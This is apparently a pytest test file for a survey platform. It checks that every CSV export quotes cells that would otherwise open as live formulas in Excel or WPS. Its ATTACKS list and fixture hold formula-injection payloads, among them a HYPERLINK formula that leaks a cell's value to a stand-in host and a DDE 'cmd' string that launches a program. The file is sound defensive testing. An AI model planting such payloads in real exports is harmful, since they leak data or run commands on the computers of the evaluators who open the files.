"""CSV formula injection: no cell of any CSV the service writes opens as a live formula.

Respondents are anonymous; their text answers, "其他" texts, unit names and the reasons an evaluator types
reach the desk's CSV files, which evaluators open in Excel or WPS. A cell starting with = + - @ (or their
full-width forms), a tab or a CR is a formula there; ``survey.platform.csv_files.to_csv_bytes`` prefixes such cells
with ``'`` (the OWASP advice) and leaves numbers alone.
"""

from __future__ import annotations

import copy
import csv
import io
import zipfile

import pandas as pd
import pytest

from survey.collection import fieldwork, review
from survey.models import Response, UnitCode
from survey.platform.csv_files import FORMULA_MARKS, LEADING_BLANKS, formula_safe, table_csv, to_csv_bytes
from survey.platform.extensions import db
from survey.questionnaires import publishing
from survey.reports.bundle import working_paper_bundle
from tests.helpers import ALL_TYPES, ALL_TYPES_ANSWERS, make_project

ATTACKS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_cells_get_a_quote(attack):
    assert formula_safe(attack) == "'" + attack


@pytest.mark.parametrize("data", ["满意", "", "a=b", "1+1", "2019-05-01", "-3", "+2.5", "-1e5", "'=x", "[=x]"])
def test_other_text_and_numbers_written_as_text_are_left_alone(data):
    assert formula_safe(data) == data


@pytest.mark.parametrize("number", [-1, -3.5, 0, float("nan"), None])
def test_numbers_stay_numbers(number):
    assert formula_safe(number) is number


def test_a_frame_keeps_its_numeric_columns_and_is_not_changed_in_place():
    frame = pd.DataFrame({"=title": ["=1+1", "ok"], "n": [-1, -2], "x": [-1.5, None]})
    rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig"))))
    assert rows == [["'=title", "n", "x"], ["'=1+1", "-1", "-1.5"], ["ok", "-2", ""]]
    assert list(frame.columns) == ["=title", "n", "x"] and frame["=title"][0] == "=1+1"
    assert table_csv([{"a": "@x", "b": 3}], ["a", "b"]).decode("utf-8-sig").splitlines()[1] == "'@x,3"


def _live_formula(cell: str) -> bool:
    return cell.lstrip(LEADING_BLANKS)[:1] in FORMULA_MARKS and not formula_safe(cell) == cell


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _assert_safe(data: bytes, payloads: list[str], name: str) -> list[list[str]]:
    """No cell opens as a formula, and each payload is there, quoted, exactly once or more."""
    rows = _rows(data)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if _live_formula(cell)], name
    for payload in payloads:
        assert any(payload in cell for cell in cells), (name, payload)
        assert all(cell.startswith("'") for cell in cells if cell.lstrip(LEADING_BLANKS + "'").startswith(payload))
    return rows


SIGNED = {
    **copy.deepcopy(ALL_TYPES),
    "sections": copy.deepcopy(ALL_TYPES["sections"]),
}
SIGNED["sections"][0]["questions"].append({"key": "delta", "type": "number", "text": "变化", "min": -10, "max": 10})


@pytest.fixture
def attacked(app, client, evaluator, logged_in):
    """A questionnaire whose every free-text way in carries a formula: answers, 其他, unit names, reasons."""
    questionnaire = publishing.import_questionnaire(make_project(evaluator), copy.deepcopy(SIGNED))
    publishing.publish(questionnaire)
    fieldwork.add_units(questionnaire, ['=HYPERLINK("http://x.example/","单位")', "@单位"])
    unit = db.session.execute(db.select(UnitCode).order_by(UnitCode.id)).scalars().first()
    answers = {
        **ALL_TYPES_ANSWERS,
        "name": ATTACKS[0][:20],
        "idea": ATTACKS[1],
        "safe": "c",
        "why": ["a", "z"],
        "why__other": "@SUM(1+1)",
        "delta": "-3",
    }
    phone = app.test_client()
    assert phone.post(f"/u/{unit.code}", data={**answers, "submission_id": "x1"}).status_code == 303
    assert phone.post(f"/s/{questionnaire.public_token}", data={**answers, "idea": "-1+1", "submission_id": "x2"})
    stored = db.session.execute(db.select(Response).order_by(Response.id)).scalars().all()
    assert len(stored) == 2 and stored[0].answers["delta"] == -3
    review.decide(stored[1], evaluator, "exclude", "＝1+1 重复作答")
    return questionnaire


def test_every_csv_route_neutralises_formulas(logged_in, attacked):
    base = f"/desk/questionnaires/{attacked.id}"
    text = _assert_safe(logged_in.get(f"{base}/responses.csv").data, ["@SUM(1+1)", "-1+1", ATTACKS[1]], "text")
    delta = next(position for position, name in enumerate(text[0]) if name.endswith(". 变化"))
    assert [row[delta] for row in text[1:]] == ["-3", "-3"], "a number answer stays a number"
    codes = _assert_safe(logged_in.get(f"{base}/data/responses-codes.csv").data, ["@SUM(1+1)", "-1+1"], "codes")
    assert {float(row[codes[0].index("delta")]) for row in codes[1:]} == {-3.0}
    _assert_safe(logged_in.get(f"{base}/units.csv").data, ['=HYPERLINK("http://x.example/"', "@单位"], "units")
    _assert_safe(logged_in.get(f"{base}/review/log.csv").data, ["＝1+1 重复作答"], "log")
    _assert_safe(logged_in.get(f"/desk/projects/{attacked.project_id}/audit.csv").data, [], "audit")


def test_the_working_papers_csv_files_are_neutralised_too(logged_in, attacked):
    archive = zipfile.ZipFile(io.BytesIO(working_paper_bundle(attacked)))
    _assert_safe(archive.read("responses.csv"), ["@SUM(1+1)", "-1+1", ATTACKS[1]], "bundle responses")
    _assert_safe(archive.read("exclusions.csv"), ["＝1+1 重复作答"], "bundle exclusions")
